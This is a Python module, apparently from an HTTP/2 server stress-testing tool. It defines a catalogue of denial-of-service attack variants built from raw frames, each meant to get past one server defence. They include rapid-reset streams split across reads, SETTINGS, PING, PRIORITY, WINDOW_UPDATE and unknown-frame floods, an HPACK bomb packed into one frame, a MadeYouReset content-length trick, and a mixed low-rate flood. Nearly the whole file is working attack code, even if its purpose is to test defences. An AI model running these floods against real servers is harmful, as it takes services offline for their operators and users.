"""Further attacks, each of which goes round a defence that is enough for one of the named ones."""

import struct

import frames
from attacks import READY, Flood, hpack_references, opens_and, unfinished
from frames import DATA, END_STREAM, OPENING, Numbered, Repeated, call_block, frame, headers

# As many streams as a connection may have, each with a call that waits for its message.
CALLS_IN_HAND = b"".join(headers(stream, call_block()) for stream in range(1, 255, 2))


def longer_than_announced():
    """MadeYouReset by a body that is longer than its content-length."""
    block = call_block() + frames.literal(b"content-length", b"1")
    return Numbered(
        lambda stream: headers(stream, block) + frame(DATA, END_STREAM, stream, b"\0\0")
    )


def changing_windows():
    """Each SETTINGS changes the window of every stream that is open."""
    pair = frames.settings(window=65_535), frames.settings(window=65_536)
    return Repeated(b"".join(pair))


def tree_of_priorities():
    """Each stream is made the parent of all others."""
    payload = struct.pack(">IB", 1 << 31, 255)
    return Numbered(lambda stream: frame(frames.PRIORITY, 0, stream, payload))


class OpenedThenReset:
    """Streams are opened in one buffer and reset in the next one."""

    def __init__(self, count):
        block = call_block()
        self.count = count
        self.opened = Numbered(lambda stream: headers(stream, block))
        self.resets = Numbered(frames.reset)
        self.unit_bytes = self.opened.unit_bytes + self.resets.unit_bytes

    def __iter__(self):
        for first in range(1, 2**31 - 2 * self.count, 2 * self.count):
            yield self.opened.chunk(first, self.count)
            yield self.resets.chunk(first, self.count)


VARIANTS = {
    "rapid_reset_in_two_reads": Flood(OpenedThenReset(100), pause=0.001),
    # So few at a time that they never pile up.
    "settings_flood_in_step": Flood(Repeated(frames.settings(), count=100), in_step=True),
    "ping_flood_in_step": Flood(
        Repeated(frame(frames.PING, payload=b"attacker"), count=100), in_step=True
    ),
    # Acknowledgements are read, so that none of them waits to be sent.
    "settings_flood_read": Flood(Repeated(frames.settings())),
    "settings_flood_windows": Flood(changing_windows(), OPENING + CALLS_IN_HAND),
    # The resets are read.
    "reset_flood_read": Flood(Numbered(lambda stream: headers(stream, b"\x82", end=True))),
    # The server's limit was acknowledged, so that it is an error to exceed it.
    "stream_limit_acknowledged": Flood(Numbered(unfinished, at_most=20_000), READY),
    # Within one frame, which no limit of CONTINUATION sees.
    "hpack_bomb_in_one_frame": hpack_references(continuations=0),
    "unknown_frame_flood_empty": Flood(Repeated(frame(frames.UNKNOWN))),
    "priority_flood_exclusive": Flood(tree_of_priorities()),
    "window_update_flood_of_a_stream": Flood(
        Repeated(frames.window_update(1, 1)), OPENING + headers(1, call_block())
    ),
    "made_you_reset_content_length": Flood(longer_than_announced()),
    # Resets of streams that were never opened, or are long closed.
    "reset_of_a_closed_stream": Flood(
        Repeated(frames.reset(1)), OPENING + headers(1, call_block()) + frames.reset(1)
    ),
    # Several kinds by turns, each of them seldom.
    "mixed_flood": Flood(
        Repeated(
            frame(frames.PING, payload=b"attacker")
            + frames.settings()
            + frames.window_update(1)
            + frame(frames.UNKNOWN, payload=bytes(8))
            + frame(frames.PRIORITY, 0, 1, struct.pack(">IB", 0, 15))
        )
    ),
    "rapid_reset_of_whole_calls": Flood(
        opens_and(
            lambda stream: frame(DATA, END_STREAM, stream, bytes(5)) + frames.reset(stream)
        )
    ),
}
